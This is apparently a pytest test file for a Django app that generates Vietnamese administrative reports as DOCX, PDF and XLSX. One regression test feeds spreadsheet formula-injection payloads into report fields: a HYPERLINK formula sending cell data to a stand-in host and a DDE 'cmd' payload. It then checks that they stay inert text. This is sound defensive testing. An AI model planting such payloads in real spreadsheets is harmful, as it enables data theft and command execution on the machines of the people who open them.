"""Reports as documents: DOCX read back with python-docx, PDF through LibreOffice read back with
pdfplumber, XLSX with openpyxl, and `lantoa build_report` (issue 5, item 5)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pdfplumber
import pytest
from django.core.management import CommandError, call_command
from docx import Document
from openpyxl import load_workbook

from conftest import at_hcm
from lantoa.core import pdf
from lantoa.core.pdf import soffice
from lantoa.plans.models import Plan
from lantoa.reporting import documents, selectors
from lantoa.reporting.services import report_decide, report_open, report_submit
from lantoa.reporting.tests.conftest import Q3, brief, record, request_and_issue


@pytest.fixture
def issued(world, regime, ward_plan, coordinator, leader):
    """The ward's quarter III report, with school A's accepted report inside, issued as 05."""
    Plan.objects.filter(pk=ward_plan.plan.pk).update(
        title="Đẩy mạnh công tác truyền thông thực hiện Nghị quyết số 71-NQ/TW",
        signer_authority="TM. ỦY BAN NHÂN DÂN\nKT. CHỦ TỊCH",
        signer_title="Phó Chủ tịch",
        signer_name="Phan Đình Huy",
    )
    record(world.school_a, "flag_ceremony", dt.date(2026, 7, 6), 1234, channel="Trực tiếp")
    record(world.centre, "radio", dt.date(2026, 8, 3), reach=5678, channel="Đài truyền thanh")
    brief(world.school_a, dt.date(2026, 7, 1), [world.teacher_a])
    school = report_open(actor=None, unit=world.school_a, rule=regime.units, key=Q3)
    school.difficulties = "Thiếu tài liệu tuyên truyền bằng tiếng dân tộc."
    school.save()
    report_submit(actor=None, report=school, now=at_hcm(2026, 9, 16, 9))
    report_decide(actor=coordinator, report=school, accept=True)
    ward = report_open(actor=coordinator, unit=world.ward, rule=regime.ward, key=Q3)
    request_and_issue(
        actor=leader,
        report=ward,
        number="05/BC-UBND",
        issued_on=dt.date(2026, 9, 5),
        now=at_hcm(2026, 9, 18, 10),
    )
    ward.refresh_from_db()
    return ward


def docx_of(report) -> Document:  # type: ignore[no-untyped-def]
    data = documents.render(report, selectors.latest_snapshot(report), "docx")
    return Document(io.BytesIO(data))


def all_text(document: Document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts += [cell.text for cell in row.cells]
    return "\n".join(parts)


def test_the_ward_report_docx_follows_decree_30(issued, world):
    document = docx_of(issued)
    section = document.sections[0]
    mm = [round(v.mm) for v in (section.page_width, section.page_height)]
    assert mm == [210, 297]
    margins = (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)
    assert [round(v.mm) for v in margins] == [20, 20, 30, 15]
    fonts = {r.font.name for p in document.paragraphs for r in p.runs if r.text.strip()}
    assert fonts == {"Times New Roman"}

    header = document.tables[0]
    left, right = (cell.text for cell in header.rows[0].cells)
    assert left.startswith("ỦY BAN NHÂN DÂN\nPHƯỜNG AN HÒA")
    assert "Số: 05/BC-UBND" in left
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc" in right
    assert "An Hòa, ngày 05 tháng 9 năm 2026" in right

    paragraphs = [p.text for p in document.paragraphs]
    assert "BÁO CÁO" in paragraphs
    assert any(p.startswith("Kết quả thực hiện Kế hoạch đẩy mạnh") for p in paragraphs)
    assert "Kính gửi: Sở Giáo dục và Đào tạo tỉnh Thử." in paragraphs
    assert any(p.startswith("Thực hiện Kế hoạch số 12/KH-UBND ngày 16/03/2026") for p in paragraphs)
    for heading in ("I. CÔNG TÁC LÃNH ĐẠO", "II. KẾT QUẢ THỰC HIỆN", "V. ĐỀ XUẤT, KIẾN NGHỊ"):
        assert any(p.startswith(heading) for p in paragraphs), heading

    signature = next(t for t in document.tables if "Nơi nhận:" in t.rows[0].cells[0].text)
    recipients, signer = (cell.text for cell in signature.rows[0].cells)
    assert recipients.splitlines() == [
        "Nơi nhận:",
        "- Như trên;",
        "- Lãnh đạo UBND phường;",
        "- Lưu: VT, VHXH.",
    ]
    assert signer.split("\n")[:3] == ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]
    assert signer.rstrip().endswith("Phan Đình Huy")


def test_the_numbers_in_the_docx_tables_are_the_report_numbers(issued, world):
    document = docx_of(issued)
    kinds = next(t for t in document.tables if t.rows[0].cells[1].text == "Hình thức")
    rows = {r.cells[1].text: (r.cells[2].text, r.cells[3].text) for r in kinds.rows[1:]}
    assert rows["Sinh hoạt dưới cờ"] == ("1", "1.234")
    assert rows["Tổng cộng"] == ("3", "1.235")
    units = next(
        t for t in document.tables if t.rows[0].cells[1].text == "Đơn vị" and len(t.columns) == 6
    )
    assert [c.text for c in units.rows[1].cells] == [
        "1",
        world.school_a.name,
        "quý III năm 2026",
        "2",
        "1.235",
        "1/1",
    ]
    text = all_text(document)
    assert "5.678 lượt tiếp cận" in text
    assert f"{world.school_a.name}: Thiếu tài liệu tuyên truyền bằng tiếng dân tộc." in text
    assert len(document.inline_shapes) >= 1  # the chart


def test_a_frozen_version_prints_what_was_sent(issued, world):
    record(world.school_b, "contest", dt.date(2026, 8, 8), 4321)
    text = all_text(docx_of(issued))
    assert "4.321" not in text and "1.235 lượt người tham dự" in text


def test_the_pdf_comes_from_libreoffice_with_title_numbers_and_diacritics(issued):
    assert soffice(), "LibreOffice must be installed (scripts/system-deps.sh)"
    data = documents.render(issued, selectors.latest_snapshot(issued), "pdf")
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        text = "\n".join(page.extract_text() or "" for page in pdf.pages)
    assert "BÁO CÁO" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text
    assert "Số: 05/BC-UBND" in text
    assert "1.235 lượt người tham dự" in text.replace("\n", " ")
    assert "Phan Đình Huy" in text


def test_without_libreoffice_the_pdf_says_what_to_do(issued, monkeypatch, login, leader):
    monkeypatch.setattr(pdf.shutil, "which", lambda name: None)
    with pytest.raises(pdf.PdfUnavailable, match="LibreOffice"):
        documents.render(issued, selectors.latest_snapshot(issued), "pdf")
    response = login(leader).get(f"/reports/{issued.pk}/download.pdf", follow=True)
    assert "chưa cài LibreOffice" in response.content.decode()


def test_the_xlsx_carries_the_same_numbers(issued):
    data = documents.render(issued, selectors.latest_snapshot(issued), "xlsx")
    book = load_workbook(io.BytesIO(data))
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(values_only=True)}
    assert summary["Số hoạt động"] == 3
    assert summary["Lượt người tham dự"] == 1235
    assert summary["Lượt tiếp cận"] == 5678
    kinds = {
        row[0]: row[1] for row in book["Theo hình thức"].iter_rows(min_row=2, values_only=True)
    }
    assert kinds["Phát thanh trên hệ thống truyền thanh"] == 1


def test_text_that_looks_like_a_formula_stays_text_in_the_xlsx(issued):
    """Issue 12, finding 4: a unit named `=HYPERLINK(…)` or a target starting with `=` became
    a live formula in the workbook the Sở opens in Excel."""
    snapshot = selectors.latest_snapshot(issued)
    snapshot["unit"]["name"] = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    snapshot["activities"]["by_kind"][0]["name"] = "+1+cmd|' /C calc'!A0"
    snapshot["targets"] = [
        {"text": "@SUM(1,1)", "actual": "-2+3", "status": "\tĐạt", "numerator": 1,
         "denominator": 2}
    ]  # fmt: skip
    data = documents.report_xlsx(issued, snapshot)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(data))
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(values_only=True)}
    assert summary["Đơn vị"] == '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    target = next(book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True))
    assert target[:3] == ("@SUM(1,1)", "-2+3", "\tĐạt")


def test_build_report_writes_each_format(issued, tmp_path, world):
    out = tmp_path / "bao-cao.docx"
    call_command("build_report", unit=world.ward.code, period="2026-Q3", out=str(out))
    assert "Số: 05/BC-UBND" in all_text(Document(str(out)))
    xlsx = tmp_path / "bao-cao.xlsx"
    call_command("build_report", unit=world.school_a.code, period="2026-Q3", out=str(xlsx))
    assert load_workbook(xlsx)["Tổng hợp"]["B1"].value == world.school_a.name
    # a period nobody owes still builds from the record, over the decree's window
    yearly = tmp_path / "nam.docx"
    call_command("build_report", unit=world.ward.code, period="2026", out=str(yearly))
    assert "từ ngày 15/12/2025 đến ngày 14/12/2026" in all_text(Document(str(yearly)))


@pytest.mark.parametrize(
    ("unit", "period", "out", "message"),
    [
        ("99999", "2026-Q3", "a.docx", "Không có đơn vị mã"),
        ("90001", "2026-Q5", "a.docx", "2026-Q3"),
        ("90001", "2026-Q3", "a.odt", ".docx, .pdf hoặc .xlsx"),
    ],
)
def test_build_report_names_what_is_wrong(world, tmp_path, unit, period, out, message):
    with pytest.raises(CommandError, match=message):
        call_command("build_report", unit=unit, period=period, out=str(tmp_path / out))


def test_a_notable_activity_prints_with_its_photo(world, regime):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from lantoa.activities.services import activity_evidence_add

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 40, 40)).save(buffer, format="PNG")
    activity = record(
        world.school_a, "contest", dt.date(2026, 8, 20), 222, title="Hội thi tìm hiểu Nghị quyết"
    )
    activity_evidence_add(
        actor=None,
        activity=activity,
        files=[SimpleUploadedFile("hoi-thi.png", buffer.getvalue(), content_type="image/png")],
    )
    record(world.school_a, "flag_ceremony", dt.date(2026, 8, 21), 500)  # no photo: not notable
    report = report_open(actor=None, unit=world.school_a, rule=regime.units, key=Q3)

    document = docx_of(report)

    text = all_text(document)
    assert "- Hội thi tìm hiểu Nghị quyết (Trường Tiểu học Thử A, ngày 20/08/2026, 222" in text
    assert "flag_ceremony 21/08/2026" not in text
    assert len(document.inline_shapes) == 2  # the chart and the photo
